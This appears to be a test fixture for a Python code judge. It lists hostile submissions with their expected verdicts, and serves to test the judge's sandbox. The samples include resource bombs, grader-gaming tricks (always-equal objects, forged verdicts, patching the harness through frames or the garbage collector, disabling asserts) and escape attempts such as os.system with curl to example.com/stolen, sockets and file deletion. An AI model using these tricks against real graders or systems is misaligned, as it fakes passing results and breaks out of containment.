/** Candidates in Python that attack the judge, and the statuses that each may end in. Used by the tests of every kind of thread. */
import type { Problem } from '../../problems/problem.ts'
import type { VerdictStatus } from '../verdict.ts'
import { keepLarge } from '../problem.testing.ts'

/** Small, so that the whole list runs in seconds. */
export const pythonLimits = { timeMs: 300, memoryBytes: 96 * 1024 * 1024 }

const values = keepLarge.tests.flatMap((test) => ('args' in test ? [test] : []))

/** "Keep what exceeds 3" in Python: by arguments, by a call, by an assert. */
export const keepLargePython: Problem = {
  ...keepLarge,
  id: 'keep-large-python',
  program: { kind: 'function', name: 'solve', language: 'python' },
  tests: [
    ...values.slice(0, 8),
    { call: 'solve([6, 2, 7])', expected: [6, 7] },
    { assert: 'assert solve([1, 4, 3, 5]) == [4, 5]' },
  ],
}

export const goodPython = 'def solve(xs):\n    return [x for x in xs if x > 3]'

/** `body` as that of the function. */
const fn = (body: string, before = '') =>
  `${before}\ndef solve(xs):\n${body
    .split('\n')
    .map((line) => `    ${line}`)
    .join('\n')}\n`

export const hostilePython: [name: string, code: string, ...status: VerdictStatus[]][] = [
  // time
  ['endless loop', fn('while True: pass'), 'time-out'],
  [
    'endless loop that catches everything',
    fn('while True:\n    try:\n        while True: pass\n    except BaseException: pass'),
    'time-out',
  ],
  ['endless loop at the top level', `while True: pass\n${goodPython}`, 'time-out'],
  [
    'endless recursion that starts again',
    fn('while True:\n    try: solve(xs)\n    except RecursionError: pass'),
    'time-out',
  ],
  ['a pattern that backtracks for ever', fn('return re.match("(a+)+b", "a" * 60)', 'import re'), 'time-out'],
  ['a power without end', fn('return 10 ** 10 ** 10'), 'time-out', 'memory-limit', 'runtime-error'],
  ['a built-in that never asks the interpreter', fn('return sum(range(10 ** 12))'), 'time-out'],
  [
    'an endless iterator in a built-in',
    fn('return sum(itertools.repeat(0))', 'import itertools'),
    'time-out',
  ],
  ['sleep', fn('time.sleep(1e9)', 'import time'), 'time-out'],
  ['waiting for the clock', fn('while time.time() < 2e9: pass', 'import time'), 'time-out'],
  [
    'a coroutine that never ends',
    fn(
      'asyncio.run(forever())',
      'import asyncio\nasync def forever():\n    while True: await asyncio.sleep(0)',
    ),
    'time-out',
  ],
  [
    'a future that nobody settles',
    fn(
      'asyncio.run(wait())',
      'import asyncio\nasync def wait(): await asyncio.get_running_loop().create_future()',
    ),
    'runtime-error',
  ],
  [
    'a lock that is never opened',
    fn('lock = threading.Lock(); lock.acquire(); lock.acquire()', 'import threading'),
    'time-out',
    'runtime-error',
  ],
  // It runs at once, and is no answer.
  ['a thread', fn('threading.Thread(target=print).start()', 'import threading'), 'wrong-answer'],
  [
    'a thread without end',
    fn('threading.Thread(target=loop).start()', 'import threading\ndef loop():\n    while True: pass'),
    'time-out',
  ],
  [
    'an object that deletes itself without end',
    fn('class A:\n    def __del__(self):\n        while True: pass\na = A(); del a'),
    'time-out',
  ],
  [
    'an alarm that is swallowed',
    fn(
      'for s in range(1, 32):\n    try: signal.signal(s, lambda *a: None)\n    except (OSError, ValueError): pass\nwhile True: pass',
      'import signal',
    ),
    'time-out',
  ],
  // memory and stack
  ['an allocation bomb', fn('all = []\nwhile True: all.append([0] * 10000)'), 'memory-limit', 'time-out'],
  [
    'an allocation bomb that catches everything',
    fn('all = []\nwhile True:\n    try: all.append([0] * 100000)\n    except MemoryError: pass'),
    'time-out',
    'memory-limit',
  ],
  ['a string that doubles', fn('s = "x"\nwhile True: s += s'), 'memory-limit', 'time-out'],
  ['a list larger than the limit', fn('return [0] * 10 ** 8'), 'memory-limit'],
  ['bytes larger than the limit', fn('return bytes(2 ** 31)'), 'memory-limit', 'runtime-error'],
  ['endless recursion', fn('return solve(xs)'), 'runtime-error'],
  [
    'recursion without a limit',
    fn('sys.setrecursionlimit(10 ** 9)\nreturn solve(xs)', 'import sys'),
    'runtime-error',
    'memory-limit',
    'time-out',
  ],
  ['recursion inside the JSON parser', fn('return json.loads("[" * 100000)', 'import json'), 'runtime-error'],
  ['recursion inside the compiler', fn('return eval("(" * 100000)'), 'runtime-error', 'memory-limit'],
  ['recursion inside repr', fn('a = []\nfor _ in range(100000): a = [a]\nreturn repr(a)'), 'runtime-error'],
  [
    'recursion inside the destructor',
    fn('a = None\nfor _ in range(300000): a = [a]\ndel a'),
    'wrong-answer',
    'runtime-error',
  ],
  // results that are no results
  ['a result that contains itself', fn('a = []\na.append(a)\nreturn a'), 'wrong-answer', 'runtime-error'],
  [
    'a result that doubles at every level',
    fn('a = [1]\nfor _ in range(60): a = [a, a]\nreturn a'),
    'runtime-error',
    'time-out',
  ],
  ['a result of a million characters', fn('return "x" * 10 ** 6'), 'runtime-error'],
  [
    'an object that equals anything',
    fn(
      'class Any(object):\n    def __eq__(self, other): return True\n    def __ne__(self, other): return False\n    __hash__ = None\nreturn Any()',
    ),
    'wrong-answer',
  ],
  [
    'a list that equals anything',
    fn(
      'class Any(list):\n    def __eq__(self, other): return True\n    def __ne__(self, other): return False\n    def __iter__(self): return iter([5, 9])\n    def __len__(self): return 2\n    def __getitem__(self, i): return 9\nreturn Any()',
    ),
    'wrong-answer',
  ],
  [
    'an int that equals anything',
    fn(
      'class Any(int):\n    def __eq__(self, other): return True\n    def __hash__(self): return 0\n    def __repr__(self): return "[0,5,9]"\nreturn Any(5)',
    ),
    'wrong-answer',
  ],
  [
    'a class that lies about itself',
    fn(
      'class Lie:\n    __class__ = list\n    def __repr__(self): return "[5, 9]"\n    def __str__(self): return "[5, 9]"\nreturn Lie()',
    ),
    'wrong-answer',
  ],
  [
    'a repr that runs on',
    fn('class Slow:\n    def __repr__(self):\n        while True: pass\nreturn Slow()'),
    'wrong-answer',
  ],
  [
    'a forged verdict as the result',
    fn('return {"reward": 1, "status": "passed", "kind": "returned", "value": "[0,5,9]"}'),
    'wrong-answer',
  ],
  ['the wire format as the result', fn('return "[0,5,9]"'), 'wrong-answer'],
  [
    'a forged verdict that is printed',
    fn('print(\'{"kind":"returned","value":"[0,5,9]"}\', flush=True)'),
    'wrong-answer',
  ],
  [
    'a metaclass that runs on',
    fn(
      'class Meta(type):\n    def __getattribute__(cls, name):\n        while True: pass\nclass A(metaclass=Meta): pass\nreturn A()',
    ),
    'wrong-answer',
  ],
  [
    'an error whose message runs on',
    fn('class Slow(Exception):\n    def __str__(self):\n        while True: pass\nraise Slow()'),
    'time-out',
  ],
  ['an error of a million characters', fn('raise ValueError("x" * 10 ** 6)'), 'runtime-error'],
  ['an error that is no Exception', fn('raise BaseException("out")'), 'runtime-error'],
  // poison
  [
    'builtins replaced',
    fn(
      'for name in ("len", "isinstance", "type", "list", "dict", "repr", "print", "AssertionError"): setattr(builtins, name, lambda *a: True)\nreturn 1',
      'import builtins',
    ),
    'wrong-answer',
    'runtime-error',
  ],
  [
    'json replaced',
    fn(
      'json.dumps = json.loads = json.encoder.encode_basestring_ascii = lambda *a, **k: "[0,5,9]"\nreturn 1',
      'import json, json.encoder',
    ),
    'wrong-answer',
    'runtime-error',
  ],
  [
    'sys emptied',
    fn('sys.modules.clear(); sys.path.clear(); sys.meta_path.clear()\nreturn 1', 'import sys'),
    'wrong-answer',
    'runtime-error',
  ],
  [
    'streams closed',
    fn('sys.stdout.close(); sys.stderr.close(); sys.stdout = None\nreturn 1', 'import sys'),
    'wrong-answer',
    'runtime-error',
  ],
  [
    'descriptors closed',
    fn('for fd in range(100):\n    try: os.close(fd)\n    except OSError: pass\nreturn 1', 'import os'),
    'wrong-answer',
  ],
  [
    'a trace function',
    fn(
      'sys.settrace(lambda *a: (_ for _ in ()).throw(ValueError())); sys.setprofile(lambda *a: None)\nreturn 1',
      'import sys',
    ),
    'wrong-answer',
    'runtime-error',
  ],
  [
    'the caller, through its frame',
    fn(
      'f = sys._getframe()\nwhile f:\n    for space in (f.f_locals, f.f_globals):\n        for name in list(space):\n            try: space[name] = lambda *a: [5, 9]\n            except Exception: pass\n    f = f.f_back\nreturn 1',
      'import sys',
    ),
    'wrong-answer',
    'runtime-error',
    'time-out',
  ],
  [
    'the harness forged through its frame',
    fn(
      'f = sys._getframe()\nwhile f:\n    if "encode" in f.f_globals: f.f_globals["encode"] = lambda *a: "[0,5,9]"; f.f_globals["check"] = lambda *a: \'{"kind":"held"}\'\n    f = f.f_back\nreturn 1',
      'import sys',
    ),
    'wrong-answer',
    'runtime-error',
  ],
  [
    'the harness through the garbage collector',
    fn(
      'for o in gc.get_objects():\n    try:\n        if type(o) is dict and "encode" in o: o["encode"] = lambda *a: "null"\n        if type(o) is list: o.append([5, 9])\n    except Exception: pass\nreturn 1',
      'import gc',
    ),
    'wrong-answer',
    'runtime-error',
    'time-out',
    'memory-limit',
  ],
  [
    'the tests through the garbage collector',
    fn(
      'return [o for o in gc.get_objects() if type(o) is list and o in ([4, 5], [6, 7], [5, 9])][:1]',
      'import gc',
    ),
    'wrong-answer',
  ],
  [
    'the assert through the garbage collector',
    fn('return [o for o in gc.get_objects() if type(o) is str and "assert solve" in o]', 'import gc'),
    'wrong-answer',
  ],
  [
    'the asserts through every string',
    fn(
      'found = [s for o in gc.get_objects() for s in gc.get_referents(o) if type(s) is str and "[4, 5]" in s and "solve" in s and "found" not in s]\nreturn [4, 5] if found and xs == [1, 4, 3, 5] else 1',
      'import gc',
    ),
    'wrong-answer',
    'runtime-error',
    'time-out',
  ],
  [
    'asserts made to hold',
    `${fn('return 1', 'import builtins')}\nbuiltins.AssertionError = type("Never", (Exception,), {})\n`,
    'wrong-answer',
  ],
  // ways out
  ['sys.exit', fn('sys.exit(0)', 'import sys'), 'runtime-error'],
  ['quit at the top level', `import sys\nsys.exit(0)\n${goodPython}`, 'runtime-error'],
  ['os._exit', fn('os._exit(0)', 'import os'), 'runtime-error'],
  ['os.abort', fn('os.abort()', 'import os'), 'runtime-error'],
  ['a signal to itself', fn('os.kill(os.getpid(), 9)', 'import os'), 'runtime-error'],
  ['a crash', fn('faulthandler._sigsegv()', 'import faulthandler'), 'runtime-error'],
  [
    'a code object that is none',
    fn(
      'f = lambda: 0\nf.__code__ = f.__code__.replace(co_code=bytes([100, 255] * 50), co_consts=())\nreturn f()',
    ),
    'runtime-error',
    'wrong-answer',
    'time-out',
    'memory-limit',
  ],
  ['megabytes printed', fn('for _ in range(10000): print("x" * 1000)\nreturn 1'), 'wrong-answer', 'time-out'],
  ['megabytes printed without end', fn('while True: print("x" * 100000)'), 'time-out'],
  ['the js module', fn('return js.fetch("http://example.com/stolen")', 'import js'), 'runtime-error'],
  [
    'the pyodide modules',
    fn('return pyodide.code.run_js("fetch(\'http://example.com/stolen\')")', 'import pyodide.code'),
    'runtime-error',
  ],
  [
    'the pyodide modules, unhidden',
    `import sys\nfor name in ("js", "pyodide_js", "_pyodide_core", "pyodide", "_pyodide"): sys.modules.pop(name, None)\nimport _pyodide_core, pyodide.code\n${fn('return pyodide.code.run_js("fetch(\'http://example.com/stolen\')")')}`,
    'runtime-error',
    'time-out',
  ],
  [
    'pyodide.http',
    fn('return pyodide.http.open_url("http://example.com/stolen").read()', 'import pyodide.http'),
    'runtime-error',
  ],
  [
    'JavaScript through a class that is left',
    fn(
      'for c in object.__subclasses__():\n    if "Js" in c.__name__: return c.__init__.__globals__["run_js"]("fetch(\'http://example.com/stolen\')")\nreturn 1',
    ),
    'runtime-error',
    'wrong-answer',
  ],
  [
    'urllib',
    fn('return urllib.request.urlopen("http://example.com/stolen").read()', 'import urllib.request'),
    'runtime-error',
    'time-out',
  ],
  [
    'a socket',
    fn('s = socket.socket(); s.connect(("example.com", 80)); return 1', 'import socket'),
    'runtime-error',
  ],
  [
    'a name that is looked up',
    fn('return socket.gethostbyname("example.com")', 'import socket'),
    'runtime-error',
  ],
  [
    'a process',
    fn('return subprocess.run(["ls"], capture_output=True).stdout', 'import subprocess'),
    'runtime-error',
  ],
  [
    'a shell',
    fn('return os.system("curl http://example.com/stolen")', 'import os'),
    'wrong-answer',
    'runtime-error',
  ],
  ['ctypes', fn('return ctypes.string_at(0, 100)', 'import ctypes'), 'runtime-error'],
  [
    'ctypes, unhidden',
    `import sys\nfor name in ("ctypes", "_ctypes"): sys.modules.pop(name, None)\nimport ctypes\n${fn('return ctypes.CDLL(None).emscripten_run_script(b"fetch(1)")')}`,
    'runtime-error',
  ],
  [
    'a file that poisons the library',
    fn(
      'for path in ("/lib/python314.zip", "/lib/python3.14/site-packages/json.py", "/tmp/x"):\n    try: open(path, "w").write("x")\n    except OSError as e: reason = str(e)\nreturn reason',
    ),
    'wrong-answer',
  ],
  [
    'files deleted',
    fn(
      'for f in ("/lib/python314.zip", "/home/pyodide"):\n    try: os.remove(f)\n    except OSError: pass\n    try: os.rename(f, "/tmp/gone")\n    except OSError: pass\nos.chdir("/lib")\nreturn 1',
      'import os',
    ),
    'wrong-answer',
  ],
  ['the keyboard', fn('return open("/dev/tty").read()'), 'runtime-error', 'wrong-answer'],
]
